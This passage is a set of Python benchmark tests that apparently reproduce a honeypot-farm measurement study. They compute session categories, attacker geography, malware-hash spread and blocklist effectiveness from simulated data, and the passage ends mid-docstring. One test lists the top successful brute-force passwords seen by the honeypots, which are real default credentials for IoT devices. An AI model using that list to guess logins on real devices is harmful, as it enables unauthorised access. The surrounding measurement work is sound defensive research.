        top_hash_table, args=(hash_stats, store, dataset.intel, "sessions",
                              20, campaign_labels),
        rounds=3, iterations=1)
    heading("Table 4 — top-20 hashes by #sessions",
            "H1 (trojan) dominates with 25.7M sessions, >20x the next; "
            "mix of 6 mirai / 5 malicious / 4 trojan / 3 unknown / 2 miners")
    for r in rows:
        echo(f"  {r.rank:2d}. {r.hash_label:<10} sessions={r.n_sessions:>8,} "
              f"clients={r.n_clients:>6,} days={r.n_days:>3} "
              f"pots={r.n_honeypots:>3} tag={r.tag}")
    assert rows[0].hash_label == "H1"
    assert rows[0].tag == "trojan"
    # H1's dominance: >5x the runner-up even at reduced scale.
    assert rows[0].n_sessions > 5 * rows[1].n_sessions
