"""Discussion: the value of federated honeyfarms (paper Section 9)."""

from common import echo, heading

from repro.core.federation import coverage_by_farm_size, federation_report
from repro.simulation.rng import RngStream


def test_federation(benchmark, occurrences):
    report = benchmark.pedantic(
        federation_report, args=(occurrences, 4, RngStream(11, "fed")),
        rounds=1, iterations=1)
    heading("Discussion — federated honeyfarms",
            "even the best honeypots see a small fraction of all hashes; "
            "sharing data across farms improves visibility and latency")
    for i, sub in enumerate(report.sub_farms):
        echo(f"  sub-farm {i}: {len(sub.honeypots)} pots, "
              f"{sub.n_hashes:,} hashes ({sub.coverage:.1%} coverage), "
              f"mean detection lag {sub.mean_detection_lag:.1f} days")
    echo(f"  federation gain over best sub-farm: {report.federation_gain:.2f}x")

    curve = coverage_by_farm_size(occurrences, [1, 5, 20, 80, 221],
                                  RngStream(12, "curve"))
    echo("  coverage by farm size: " + ", ".join(
        f"{k} pots={v:.1%}" for k, v in sorted(curve.items())))
    assert report.best_coverage < 0.95
    assert report.federation_gain > 1.05
    assert curve[1] < curve[20] < curve[221]
