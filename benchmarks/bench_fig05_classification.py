"""Figure 5: the session-classification flow (and its shares)."""

from common import echo, heading

from repro.core.classify import CATEGORIES, classify_store, category_shares


def test_fig05(benchmark, store):
    codes = benchmark.pedantic(classify_store, args=(store,),
                               rounds=3, iterations=1)
    heading("Figure 5 — session classification flow",
            "credentials? -> NO_CRED; success? -> FAIL_LOG; commands? -> "
            "NO_CMD; URI? -> CMD / CMD+URI")
    shares = category_shares(store)
    for cat in CATEGORIES:
        echo(f"  {cat.value:<9} {shares[cat]:6.2%}")
    assert len(codes) == len(store)
    assert sum(shares.values()) > 0.999
    # Every session lands in exactly one class.
    import numpy as np
    assert set(np.unique(codes)) <= {0, 1, 2, 3, 4}
