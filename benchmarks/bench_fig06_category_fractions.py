"""Figure 6: category fractions over time + total daily activity."""

import numpy as np
from common import heading, print_series

from repro.core.timeseries import category_fractions_over_time


def test_fig06(benchmark, store):
    fractions = benchmark.pedantic(category_fractions_over_time, args=(store,),
                                   rounds=3, iterations=1)
    heading("Figure 6 — category fractions over time",
            "NO_CRED fraction grows over time; NO_CMD >20% at the window "
            "edges (Russian datacenter prefix); CMD fraction fairly flat")
    for cat in ("NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD_URI"):
        print_series(f"  {cat}", fractions[cat], points=6)
    print_series("  total sessions/day", fractions["total"], points=6)

    no_cred = fractions["NO_CRED"]
    assert no_cred[300:360].mean() > no_cred[10:70].mean()  # scanning grows
    no_cmd = fractions["NO_CMD"]
    assert no_cmd[:60].mean() > 1.5 * no_cmd[200:260].mean()  # edge elevation
    assert no_cmd[440:].mean() > 1.5 * no_cmd[200:260].mean()
