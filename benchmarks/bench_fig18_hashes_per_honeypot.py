"""Figure 18: unique (fresh) hashes per honeypot vs. client counts."""

import numpy as np
from common import echo, heading

from repro.core.clients import clients_per_honeypot
from repro.core.freshness import fresh_hashes_per_honeypot
from repro.core.hashes import hashes_per_honeypot


def test_fig18(benchmark, occurrences, store):
    per_pot = benchmark.pedantic(hashes_per_honeypot, args=(occurrences,),
                                 rounds=1, iterations=1)
    heading("Figure 18 — unique hashes per honeypot (vs clients)",
            "top-10 hash collectors see ~20x the tail; the top pot still "
            "holds <5% of all hashes; collectors != client magnets")
    order = np.argsort(per_pot)[::-1]
    idx = np.unique(np.geomspace(1, len(order), 8).astype(int)) - 1
    echo("  sorted hash curve: " + ", ".join(
        f"r{int(i) + 1}={per_pot[order[i]]}" for i in idx))

    n_hashes = occurrences.n_hashes
    echo(f"  top pot: {per_pot[order[0]] / n_hashes:.1%} of {n_hashes:,} "
          "hashes (paper <5%)")
    clients = clients_per_honeypot(store)
    top_hashes = set(order[:10].tolist())
    top_clients = set(np.argsort(clients)[::-1][:10].tolist())
    echo(f"  top-10 by hashes vs by clients overlap: "
          f"{len(top_hashes & top_clients)}/10")

    fresh = fresh_hashes_per_honeypot(occurrences)
    top_fresh = set(np.argsort(fresh)[::-1][:10].tolist())
    echo(f"  top-10 by hashes vs by first-seen overlap: "
          f"{len(top_hashes & top_fresh)}/10 (paper: nearly identical)")
    assert per_pot[order[0]] / n_hashes < 0.10
    assert len(top_hashes & top_fresh) >= 4
    head = per_pot[order[:10]].mean()
    tail = per_pot[order[-50:]].mean()
    assert head > 3 * tail
