"""Table 2: top-10 most used successful passwords."""

from common import echo, heading

from repro.core.tables import table2_passwords

PAPER_TOP10 = ["admin", "1234", "3245gs5662d34", "dreambox",
               "vertex25ektks123", "12345", "h3c", "1qaz2wsx3edc",
               "passw0rd", "GM8182"]


def test_table2(benchmark, store):
    rows = benchmark.pedantic(table2_passwords, args=(store, 10),
                              rounds=3, iterations=1)
    heading("Table 2 — top successful passwords", ", ".join(PAPER_TOP10))
    measured = [p for p, _ in rows]
    for rank, (password, count) in enumerate(rows, start=1):
        marker = "*" if password in PAPER_TOP10 else " "
        echo(f"  {rank:2d}. {password:<18} {count:>7,} {marker}")
    overlap = len(set(measured) & set(PAPER_TOP10))
    echo(f"  overlap with paper top-10: {overlap}/10")
    assert overlap >= 8
    assert measured[0] == "admin"
