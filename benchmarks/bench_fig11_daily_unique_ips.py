"""Figure 11: number of unique client IPs per day per category."""

import numpy as np
from common import heading, print_series

from repro.core.clients import daily_unique_ips


def test_fig11(benchmark, store):
    daily = benchmark.pedantic(daily_unique_ips, args=(store,),
                               rounds=1, iterations=1)
    heading("Figure 11 — daily unique client IPs per category",
            "scanning IPs jump after ~2 months (discovery); NO_CRED > "
            "FAIL_LOG ~ CMD >> NO_CMD > CMD_URI; NO_CMD rises after Dec 2022")
    for cat, series in daily.items():
        print_series(f"  {cat}", series, points=6)

    scan = daily["NO_CRED"]
    assert scan[220:280].mean() > scan[5:45].mean()  # discovery ramp
    assert daily["NO_CRED"].mean() > daily["FAIL_LOG"].mean()
    assert daily["FAIL_LOG"].mean() > daily["CMD_URI"].mean()
    no_cmd = daily["NO_CMD"]
    assert no_cmd[400:].mean() > no_cmd[200:300].mean()  # late rise
