"""Figure 12: ECDF of honeypots contacted per client IP, by category."""

from common import echo, heading, print_ecdf

from repro.core.clients import honeypots_per_client_ecdfs


def test_fig12(benchmark, store):
    ecdfs = benchmark.pedantic(honeypots_per_client_ecdfs, args=(store,),
                               rounds=1, iterations=1)
    heading("Figure 12 — honeypots contacted per client",
            ">40% of IPs contact a single pot; 18% contact >10; 2% contact "
            ">110; FAIL_LOG clients sweep the most pots")
    xs = (1, 2, 10, 50, 110, 221)
    for cat in ("ALL", "NO_CRED", "FAIL_LOG", "CMD", "CMD_URI"):
        print_ecdf(f"  {cat}", ecdfs[cat], xs)
    all_ecdf = ecdfs["ALL"]
    echo(f"  single-pot share: {all_ecdf(1):.1%} (paper >40%)")
    echo(f"  >10 pots: {all_ecdf.survival(10):.1%} (paper 18%)")
    echo(f"  >110 pots: {all_ecdf.survival(110):.1%} (paper 2%)")
    assert all_ecdf(1) > 0.30
    assert 0.05 < all_ecdf.survival(10) < 0.35
    # Scouting clients reach more pots than scan-only clients.
    assert ecdfs["FAIL_LOG"](1) < ecdfs["NO_CRED"](1)
