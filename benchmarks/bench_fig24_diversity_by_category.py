"""Figure 24 (appendix): regional diversity per session category."""

from common import echo, heading

from repro.core.diversity import diversity_by_category


def test_fig24(benchmark, store, pot_countries):
    by_cat = benchmark.pedantic(diversity_by_category,
                                args=(store, pot_countries),
                                rounds=1, iterations=1)
    heading("Figure 24 — regional diversity per category",
            "every category is dominated by cross-continent interactions "
            "except CMD+URI, which is substantially more local")
    for cat, report in by_cat.items():
        echo(f"  {cat:<9} out-only {report.out_only_share:6.1%}  "
              f"any-out {report.any_out_share:6.1%}  "
              f"any-same-country {report.any_local_share:6.1%}")
    assert by_cat["NO_CRED"].out_only_share > 0.40
    # Scouts sweep many pots, so pure out-only days are rarer for
    # FAIL_LOG, but cross-continent involvement still dominates.
    assert by_cat["FAIL_LOG"].any_out_share > 0.60
    assert by_cat["CMD_URI"].out_only_share < by_cat["NO_CRED"].out_only_share
    assert by_cat["CMD_URI"].any_local_share > by_cat["NO_CRED"].any_local_share
