"""Figure 3: daily activity bands for the top-5% honeypots."""

from common import echo, heading, print_bands

from repro.core.timeseries import bands_top_honeypots


def test_fig03(benchmark, store):
    bands = benchmark.pedantic(bands_top_honeypots, args=(store,),
                               rounds=3, iterations=1)
    heading("Figure 3 — daily sessions, top-5% honeypots",
            "median / IQR / 5-95% bands across the 11 most-popular pots; "
            "activity spikes (e.g. 2022-09-05) visible in the upper bands")
    print_bands("top-5% pots", bands)
    spike_day = bands.p95.argmax()
    echo(f"  largest p95 spike on day {int(spike_day)} "
          f"(paper highlights 2022-09-05 = day 278)")
    assert bands.median.mean() > 0
    assert bands.p95.max() > 3 * bands.p95.mean()  # spiky upper band
