"""Figure 2: number of sessions per honeypot, sorted by activity."""

import numpy as np
from common import echo, heading

from repro.core.activity import ActivitySummary, sorted_activity


def test_fig02(benchmark, store):
    counts = benchmark.pedantic(sorted_activity, args=(store,),
                                rounds=3, iterations=1)
    summary = ActivitySummary.compute(store)
    heading("Figure 2 — sessions per honeypot (sorted)",
            "top-10 pots see 14% of sessions; knee near rank 11; most "
            "targeted pot >30x the least; min pot still >360k sessions")
    idx = np.unique(np.geomspace(1, len(counts), 10).astype(int)) - 1
    echo("  sorted curve: " + ", ".join(
        f"r{int(i) + 1}={counts[i]:,}" for i in idx))
    echo(f"  top-10 share: paper 14% | measured {summary.top10_share:.1%}")
    echo(f"  max/min: paper >30x | measured {summary.max_min_ratio:.1f}x")
    echo(f"  knee rank (max-chord-distance heuristic): {summary.knee_rank}")
    assert 0.08 < summary.top10_share < 0.22
    assert summary.max_min_ratio > 8
    assert (counts > 0).all()
