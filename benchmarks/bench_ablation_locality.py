"""Ablation: CMD+URI locality bias.

The paper's Figure 16b/24e finds that URI-fetching intruders pick targets
near themselves.  The workload models this with an explicit locality
redirect; ablating it (bias = 0) erases the signal, showing the geographic
result is produced by attacker behaviour, not by farm layout.
"""

import pytest
from common import echo, heading

from repro.core.classify import classify_store
from repro.core.diversity import regional_diversity
from repro.workload import ScenarioConfig, generate_dataset

ABLATION_SCALE = 1 / 8000


def _uri_local_share(dataset):
    store = dataset.store
    pot_countries = [s.country for s in dataset.deployment.sites]
    codes = classify_store(store)
    report = regional_diversity(store, pot_countries, codes == 4)
    return report.any_local_share


@pytest.fixture(scope="module")
def ablated():
    return generate_dataset(ScenarioConfig(
        scale=ABLATION_SCALE, seed=556, hash_scale=0.01,
        uri_locality_bias=0.0,
    ))


@pytest.fixture(scope="module")
def baseline():
    return generate_dataset(ScenarioConfig(
        scale=ABLATION_SCALE, seed=556, hash_scale=0.01,
    ))


def test_ablation_locality(benchmark, baseline, ablated):
    base_local = benchmark.pedantic(_uri_local_share, args=(baseline,),
                                    rounds=1, iterations=1)
    ablated_local = _uri_local_share(ablated)
    heading("Ablation — CMD+URI locality bias",
            "paper Fig 16b: URI sessions show much more geographic "
            "proximity; without the modelled bias the signal vanishes")
    echo(f"  baseline same-country share (CMD+URI): {base_local:.1%}")
    echo(f"  ablated  same-country share (CMD+URI): {ablated_local:.1%}")
    assert base_local > 2 * ablated_local
