"""Generation-pipeline throughput benchmarks.

Unlike the figure/table benchmarks (which analyse one shared trace), these
measure the production side: end-to-end generation throughput, the
chunked-builder freeze, npz persistence, and the fingerprint cache's
warm-hit speedup.  Scale is controlled by ``REPRO_BENCH_GEN_SCALE`` (the
downscale denominator; default 4000 -> ~100k sessions per round, a few
seconds total).
"""

from __future__ import annotations

import os
import time

import pytest

from common import echo, heading, workers_from_env

import repro
from repro.store.npz import load_npz, save_npz
from repro.store.store import StoreBuilder
from repro.workload import ScenarioConfig
from repro.workload.cache import DatasetCache, dataset_fingerprint

GEN_DENOMINATOR = int(os.environ.get("REPRO_BENCH_GEN_SCALE", 4000))


def gen_config() -> ScenarioConfig:
    return ScenarioConfig.from_denominator(
        GEN_DENOMINATOR,
        seed=int(os.environ.get("REPRO_BENCH_SEED", 2023)),
    )


@pytest.fixture(scope="module")
def gen_dataset():
    return repro.generate(gen_config(), backend="serial")


def _run(benchmark, fn, rounds: int = 3):
    """Run ``fn`` under the benchmark fixture; (result, best seconds).

    Falls back to a manual timer when benchmarking is disabled
    (``--benchmark-disable``), where ``benchmark.stats`` is None.
    """
    timing = {}

    def timed():
        t0 = time.perf_counter()
        result = fn()
        timing["seconds"] = min(
            timing.get("seconds", float("inf")), time.perf_counter() - t0
        )
        return result

    result = benchmark.pedantic(timed, rounds=rounds, iterations=1)
    stats = getattr(benchmark, "stats", None)
    seconds = stats.stats.min if stats is not None else timing["seconds"]
    return result, seconds


def test_generation_throughput(benchmark):
    """Sessions/second of the full serial generation pipeline."""
    result, seconds = _run(
        benchmark, lambda: repro.generate(gen_config(), backend="serial")
    )
    rate = len(result.store) / seconds
    benchmark.extra_info["sessions"] = len(result.store)
    benchmark.extra_info["sessions_per_second"] = round(rate)
    heading("generation throughput",
            f"1/{GEN_DENOMINATOR} scale, serial pipeline")
    echo(f"  {len(result.store):,} sessions at {rate:,.0f} sessions/s")


def test_block_emit_throughput(benchmark):
    """Sessions/second of the vectorized block emit path (inline backend).

    Pins ``REPRO_EMIT_PATH=block`` for the measured rounds and times one
    scalar-path reference run alongside, so the printed comparison shows
    the buffering win at this scale.  The generation this test performs
    is what the CI trajectory gate records (``emit_path=block`` context)
    when ``REPRO_BENCH_TRAJECTORY`` is set.
    """
    saved = os.environ.get("REPRO_EMIT_PATH")
    os.environ["REPRO_EMIT_PATH"] = "block"
    try:
        result, seconds = _run(
            benchmark,
            lambda: repro.generate(gen_config(), backend="inline", workers=1),
        )
        os.environ["REPRO_EMIT_PATH"] = "scalar"
        t0 = time.perf_counter()
        scalar_result = repro.generate(gen_config(), backend="inline", workers=1)
        scalar_seconds = time.perf_counter() - t0
    finally:
        if saved is None:
            os.environ.pop("REPRO_EMIT_PATH", None)
        else:
            os.environ["REPRO_EMIT_PATH"] = saved
    assert scalar_result.store.content_digest() == result.store.content_digest()
    rate = len(result.store) / seconds
    scalar_rate = len(scalar_result.store) / scalar_seconds
    benchmark.extra_info["sessions"] = len(result.store)
    benchmark.extra_info["sessions_per_second"] = round(rate)
    benchmark.extra_info["scalar_sessions_per_second"] = round(scalar_rate)
    benchmark.extra_info["emit_path"] = "block"
    heading("block emit throughput",
            f"1/{GEN_DENOMINATOR} scale, inline backend, block vs scalar path")
    echo(f"  block  {len(result.store):,} sessions at {rate:,.0f} sessions/s")
    echo(f"  scalar reference at {scalar_rate:,.0f} sessions/s "
         f"({rate / scalar_rate:.2f}x, stores byte-identical)")


def test_scheduled_pool_throughput(benchmark):
    """Sessions/second of the scheduler's multiprocess pool backend.

    Worker count comes from ``REPRO_WORKERS`` (default 2) so the same
    harness measures any pool size; compare against the serial number
    above to see the scheduling + IPC overhead and parallel speedup.
    """
    workers = workers_from_env() or 2
    result, seconds = _run(
        benchmark,
        lambda: repro.generate(gen_config(), backend="pool", workers=workers),
    )
    rate = len(result.store) / seconds
    benchmark.extra_info["sessions"] = len(result.store)
    benchmark.extra_info["sessions_per_second"] = round(rate)
    benchmark.extra_info["workers"] = workers
    heading("scheduled pool throughput",
            f"1/{GEN_DENOMINATOR} scale, pool backend, {workers} workers")
    echo(f"  {len(result.store):,} sessions at {rate:,.0f} sessions/s")


def test_store_freeze(benchmark, gen_dataset):
    """Freeze cost alone: rebuild the store from one adopted block."""
    store = gen_dataset.store

    def freeze():
        builder = StoreBuilder()
        builder.adopt_store(store)
        return builder.build()

    rebuilt, seconds = _run(benchmark, freeze)
    benchmark.extra_info["sessions"] = len(rebuilt)
    echo(f"  freeze (adopt + build): {len(rebuilt):,} sessions in "
         f"{seconds * 1e3:.1f} ms")


def test_npz_save(benchmark, gen_dataset, tmp_path):
    path = tmp_path / "bench_store.npz"
    _, seconds = _run(benchmark, lambda: save_npz(gen_dataset.store, path))
    mb = path.stat().st_size / 1e6
    rate = mb / seconds
    benchmark.extra_info["npz_megabytes"] = round(mb, 2)
    benchmark.extra_info["save_mb_per_second"] = round(rate, 1)
    echo(f"  npz save: {mb:.1f} MB at {rate:.1f} MB/s")


def test_npz_load(benchmark, gen_dataset, tmp_path):
    path = tmp_path / "bench_store.npz"
    save_npz(gen_dataset.store, path)
    store, seconds = _run(benchmark, lambda: load_npz(path))
    mb = path.stat().st_size / 1e6
    rate = mb / seconds
    benchmark.extra_info["load_mb_per_second"] = round(rate, 1)
    echo(f"  npz load: {len(store):,} sessions at {rate:.1f} MB/s")


def test_streaming_ingest_throughput(benchmark, gen_dataset):
    """Events/second through the streaming-analytics sketch consumer.

    The store is replayed once into flight-recorder event dicts; each
    round feeds them through a fresh :class:`StreamingAnalytics` (HLLs,
    count-min, three top-k tables, exact mix/day accumulators), so the
    number is pure consumer cost, not replay cost.  The ``sketch/ingest``
    span this records is what the trajectory file persists as
    ``streaming_events_per_second``.
    """
    from repro.analytics import StreamingAnalytics, replay_store_events

    events = replay_store_events(gen_dataset.store)

    def ingest():
        analytics = StreamingAnalytics()
        analytics.ingest_events(events)
        return analytics

    analytics, seconds = _run(benchmark, ingest)
    rate = len(events) / seconds
    assert analytics.session_count() == len(gen_dataset.store)
    benchmark.extra_info["events"] = len(events)
    benchmark.extra_info["events_per_second"] = round(rate)
    heading("streaming ingest throughput",
            f"1/{GEN_DENOMINATOR} scale, sketch consumer")
    echo(f"  {len(events):,} events at {rate:,.0f} events/s "
         f"({analytics.session_count():,} sessions)")


def test_cache_warm_vs_cold(benchmark, tmp_path_factory):
    """Warm fingerprint-cache hit vs cold generation of the same config."""
    config = gen_config()
    cache = DatasetCache(tmp_path_factory.mktemp("dataset-cache"))

    t0 = time.perf_counter()
    # miss: generate + store
    cold = repro.generate(config, backend="serial", cache=cache)
    cold_seconds = time.perf_counter() - t0

    warm, warm_seconds = _run(
        benchmark,
        lambda: repro.generate(config, backend="serial", cache=cache),
    )
    assert len(warm.store) == len(cold.store)
    assert cache.entry_dir(dataset_fingerprint(config)).is_dir()
    speedup = cold_seconds / warm_seconds if warm_seconds else float("inf")
    benchmark.extra_info["cold_seconds"] = round(cold_seconds, 3)
    benchmark.extra_info["cache_speedup"] = round(speedup, 1)
    heading("dataset cache", "warm hit vs cold generation")
    echo(f"  cold {cold_seconds:.2f} s, warm {warm_seconds * 1e3:.0f} ms "
         f"({speedup:.0f}x)")
