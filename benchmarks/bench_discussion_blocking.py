"""Discussion: blockable-but-unblocked campaigns (paper Section 9)."""

from common import echo, heading

from repro.core.blocking import blockable_campaigns, blocklist_sweep


def test_blocking(benchmark, store, dataset, hash_stats):
    campaigns = benchmark.pedantic(
        blockable_campaigns, args=(hash_stats, store, dataset.intel, 5, 30),
        rounds=1, iterations=1)
    heading("Discussion — blockable campaigns",
            "long-lasting campaigns from a handful of IPs persist for "
            "months with no takedown; botnet campaigns cannot be IP-blocked")
    echo(f"  campaigns with <=5 IPs active >=30 days: {len(campaigns)}")
    for c in campaigns[:6]:
        echo(f"    {c.sha256[:10]}: {c.n_clients} IPs, {c.n_days} days, "
              f"{c.n_honeypots} pots, tag={c.tag}")

    sweep = blocklist_sweep(store, [10, 100, 1000])
    for size, impact in sorted(sweep.items()):
        echo(f"  blocklist of {size:>4}: blocks "
              f"{impact.intrusion_sessions_blocked:.1%} of intrusion "
              f"sessions, fully kills {impact.hashes_fully_blocked:.1%} "
              "of hashes")
    assert len(campaigns) >= 3
    assert (sweep[1000].intrusion_sessions_blocked
            > sweep[10].intrusion_sessions_blocked)
