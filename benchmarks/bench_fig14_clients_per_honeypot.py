"""Figure 14: number of clients per honeypot, by category."""

import numpy as np
from common import echo, heading

from repro.core.clients import clients_per_honeypot_report


def test_fig14(benchmark, store):
    report = benchmark.pedantic(clients_per_honeypot_report, args=(store,),
                                rounds=1, iterations=1)
    heading("Figure 14 — clients per honeypot",
            "a few pots attract far more clients; these are NOT the pots "
            "with the most sessions; scanning clients outnumber the rest")
    order = report.order
    idx = np.unique(np.geomspace(1, len(order), 8).astype(int)) - 1
    echo("  sorted clients curve: " + ", ".join(
        f"r{int(i) + 1}={report.overall[order[i]]:,}" for i in idx))
    top_clients = set(order[:10].tolist())
    top_sessions = set(np.argsort(report.sessions)[::-1][:10].tolist())
    echo(f"  top-10 by clients vs top-10 by sessions overlap: "
          f"{len(top_clients & top_sessions)}/10 (paper: sets differ)")
    scan_total = report.per_category["NO_CRED"].sum()
    cmd_total = report.per_category["CMD"].sum()
    echo(f"  scanning clients vs CMD clients (pot-sum): "
          f"{scan_total:,} vs {cmd_total:,}")
    from repro.core.clients import unique_client_count
    from repro.core.classify import classify_store
    codes = classify_store(store)
    scan_ips = unique_client_count(store, codes == 0)
    cmd_ips = unique_client_count(store, codes == 3)
    echo(f"  unique scanning IPs vs CMD IPs: {scan_ips:,} vs {cmd_ips:,} "
          "(paper: >2x)")
    assert len(top_clients & top_sessions) < 10
    # Paper: scanning involves more than twice as many clients as the
    # advanced-interaction categories.
    assert scan_ips > 2 * cmd_ips
    assert scan_total > 0.7 * cmd_total  # curves track each other per pot
    fail = report.per_category["FAIL_LOG"].astype(float)
    cmd = report.per_category["CMD"].astype(float)
    # FAIL_LOG and CMD client curves track each other (paper observation).
    assert np.corrcoef(fail, cmd)[0, 1] > 0.5
