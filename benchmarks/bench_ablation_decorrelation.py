"""Ablation: decorrelated per-pot weight vectors.

DESIGN.md models honeypot attractiveness with three decorrelated vectors
(sessions / clients / hashes) because the paper finds the top pots differ
per metric (Figs 2 vs 14 vs 18).  Ablating to a single shared vector makes
the top-10 sets coincide — demonstrating the design choice is load-bearing.
"""

import numpy as np
import pytest
from common import echo, heading

from repro.core.activity import sessions_per_honeypot
from repro.core.clients import clients_per_honeypot
from repro.core.hashes import HashOccurrences, hashes_per_honeypot
from repro.workload import ScenarioConfig, generate_dataset

ABLATION_SCALE = 1 / 8000


def _top10_overlaps(dataset):
    store = dataset.store
    sessions = sessions_per_honeypot(store)
    clients = clients_per_honeypot(store)
    hashes = hashes_per_honeypot(HashOccurrences.build(store))
    tops = [set(np.argsort(x)[::-1][:10].tolist())
            for x in (sessions, clients, hashes)]
    return (len(tops[0] & tops[1]), len(tops[0] & tops[2]))


@pytest.fixture(scope="module")
def ablated():
    return generate_dataset(ScenarioConfig(
        scale=ABLATION_SCALE, seed=555, hash_scale=0.01,
        decorrelate_pot_weights=False,
    ))


@pytest.fixture(scope="module")
def baseline():
    return generate_dataset(ScenarioConfig(
        scale=ABLATION_SCALE, seed=555, hash_scale=0.01,
    ))


def test_ablation_decorrelation(benchmark, baseline, ablated):
    base_overlaps = benchmark.pedantic(_top10_overlaps, args=(baseline,),
                                       rounds=1, iterations=1)
    ablated_overlaps = _top10_overlaps(ablated)
    heading("Ablation — shared vs decorrelated pot weights",
            "paper: session-top, client-top and hash-top pots differ; a "
            "single shared weight vector cannot reproduce that")
    echo(f"  baseline  top-10 overlaps (sessions∩clients, sessions∩hashes):"
          f" {base_overlaps}")
    echo(f"  ablated   top-10 overlaps (single shared vector):"
          f" {ablated_overlaps}")
    # With one vector the metric tops collapse together.
    assert sum(ablated_overlaps) > sum(base_overlaps)
    assert ablated_overlaps[0] >= 7
