"""Figure 21: number of hashes per client IP (log-log long tail)."""

import numpy as np
from common import echo, heading

from repro.core.hashes import hashes_per_client


def test_fig21(benchmark, occurrences):
    curve = benchmark.pedantic(hashes_per_client, args=(occurrences,),
                               rounds=1, iterations=1)
    heading("Figure 21 — hashes per client IP",
            "long-tailed: some clients drop many distinct files (campaign "
            "overlap / families), most drop exactly one")
    idx = np.unique(np.geomspace(1, len(curve), 8).astype(int)) - 1
    echo("  sorted curve: " + ", ".join(
        f"r{int(i) + 1}={curve[i]}" for i in idx))
    single = (curve == 1).mean()
    echo(f"  clients with a single hash: {single:.1%}; "
          f"max hashes for one client: {curve[0]}")
    assert curve[0] >= 3  # family members carry several variants
    assert single > 0.2
    assert (np.diff(curve.astype(np.int64)) <= 0).all()
