"""Figure 8: per-category daily bands across all honeypots."""

from common import heading, print_bands

from repro.core.timeseries import category_bands


def test_fig08(benchmark, store):
    bands = benchmark.pedantic(category_bands, args=(store,),
                               rounds=1, iterations=1)
    heading("Figure 8 — per-category daily bands (all honeypots)",
            "NO_CRED has a constant scanning baseline; FAIL_LOG mirrors "
            "the overall shape; CMD/CMD+URI are spiky")
    for cat, band in bands.items():
        print_bands(f"  {cat}", band)
    import numpy as np
    no_cred = bands["NO_CRED"]
    # Scanning never stops once the farm is discovered: after the ~2 month
    # discovery ramp the farm-wide median stays positive nearly every day.
    assert (no_cred.median[200:] > 0).mean() > 0.7
    uri = bands["CMD_URI"]
    assert uri.p95.max() >= 4 * max(uri.p95.mean(), 0.25)  # bursty
