"""Ablation: campaign-member rotation.

Figure 13's short client lifetimes depend on bots participating in short
bursts of a campaign rather than on every active day.  Disabling rotation
makes every pool member active on every campaign day, inflating the
active-day counts of intrusion IPs.
"""

import numpy as np
import pytest
from common import echo, heading

from repro.core.classify import classify_store
from repro.core.clients import days_per_client
from repro.workload import ScenarioConfig, generate_dataset

ABLATION_SCALE = 1 / 8000


def _cmd_heavy_days(dataset):
    """95th percentile of active days among intrusion IPs.

    Rotation binds hardest on the long-lived campaigns' heavy hitters
    (most members burst briefly); the distribution's tail is where the
    ablation shows.
    """
    store = dataset.store
    codes = classify_store(store)
    days = days_per_client(store, (codes == 3) | (codes == 4))
    return float(np.percentile(days, 95)) if len(days) else 0.0


@pytest.fixture(scope="module")
def ablated():
    return generate_dataset(ScenarioConfig(
        scale=ABLATION_SCALE, seed=557, hash_scale=0.01,
        rotate_campaign_members=False,
    ))


@pytest.fixture(scope="module")
def baseline():
    return generate_dataset(ScenarioConfig(
        scale=ABLATION_SCALE, seed=557, hash_scale=0.01,
    ))


def test_ablation_rotation(benchmark, baseline, ablated):
    base_days = benchmark.pedantic(_cmd_heavy_days, args=(baseline,),
                                   rounds=1, iterations=1)
    ablated_days = _cmd_heavy_days(ablated)
    heading("Ablation — campaign member rotation",
            "paper Fig 13: intrusion IPs are short-lived; without rotating "
            "bot participation their active-day tail balloons")
    echo(f"  baseline p95 active days per intrusion IP: {base_days:.1f}")
    echo(f"  ablated  p95 active days per intrusion IP: {ablated_days:.1f}")
    assert ablated_days > 1.2 * base_days
