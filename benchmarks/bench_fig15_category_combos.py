"""Figure 15: clients per category-combination across time."""

from common import heading, print_series

from repro.core.clients import daily_category_combinations


def test_fig15(benchmark, store):
    combos = benchmark.pedantic(daily_category_combinations, args=(store,),
                                rounds=1, iterations=1)
    heading("Figure 15 — daily clients per category combination",
            "scanning-only dominates (>700k IPs); FAIL_LOG+CMD common on "
            "the same day; NO_CRED+CMD same-day is rare")
    for combo, series in combos.items():
        print_series("  " + "+".join(combo), series, points=5)
    totals = {combo: int(series.sum()) for combo, series in combos.items()}
    assert totals[("NO_CRED",)] == max(totals.values())
    assert totals[("FAIL_LOG", "CMD")] > totals[("NO_CRED", "CMD")] * 0.2
