"""Figure 23 (appendix): client IPs per country, per session category."""

from common import heading, print_top

from repro.core.clients import clients_per_country_by_category


def test_fig23(benchmark, store):
    by_cat = benchmark.pedantic(clients_per_country_by_category, args=(store,),
                                rounds=1, iterations=1)
    heading("Figure 23 — client countries per category",
            "NO_CRED/CMD led by CN; FAIL_LOG tilts to US/JP/VN/SG; NO_CMD "
            "led by RU/DE (the datacenter prefix); CMD+URI led by US/EU")
    for cat, counts in by_cat.items():
        print_top(f"  {cat}", counts, k=6)

    def top(cat, k=6):
        counts = by_cat[cat]
        return [c for c, _ in sorted(counts.items(), key=lambda kv: -kv[1])[:k]]

    assert top("NO_CRED")[0] == "CN"
    assert "RU" in top("NO_CMD", 3)
    # CMD+URI inverts the global mix: US leads, China recedes.
    assert top("CMD_URI")[0] == "US"
    uri_counts = by_cat["CMD_URI"]
    assert uri_counts["US"] > 1.5 * uri_counts.get("CN", 0)
