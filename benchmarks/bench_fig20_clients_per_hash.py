"""Figure 20: number of client IPs per hash (log-log long tail)."""

import numpy as np
from common import echo, heading

from repro.core.hashes import clients_per_hash_curve


def test_fig20(benchmark, hash_stats):
    curve = benchmark.pedantic(clients_per_hash_curve, args=(hash_stats,),
                               rounds=3, iterations=1)
    heading("Figure 20 — client IPs per hash",
            "long-tailed: a few hashes involve 10k+ IPs, most involve a "
            "handful; heavy head = botnets, tail = blockable campaigns")
    idx = np.unique(np.geomspace(1, len(curve), 10).astype(int)) - 1
    echo("  sorted curve: " + ", ".join(
        f"r{int(i) + 1}={curve[i]:,}" for i in idx))
    echo(f"  head/median ratio: {curve[0] / max(np.median(curve), 1):.0f}x")
    assert curve[0] > 30 * np.median(curve)
    assert (np.diff(curve.astype(np.int64)) <= 0).all()
    single_ip = (curve == 1).mean()
    echo(f"  hashes with a single client IP: {single_ip:.1%}")
    assert single_ip > 0.2
