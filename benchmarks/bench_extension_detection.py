"""Extension: behaviour-based campaign detection vs hash ground truth.

Related work (Shamsi et al. 2022) clusters attackers by behaviour; the
paper correlates campaigns by file hash.  This benchmark runs the
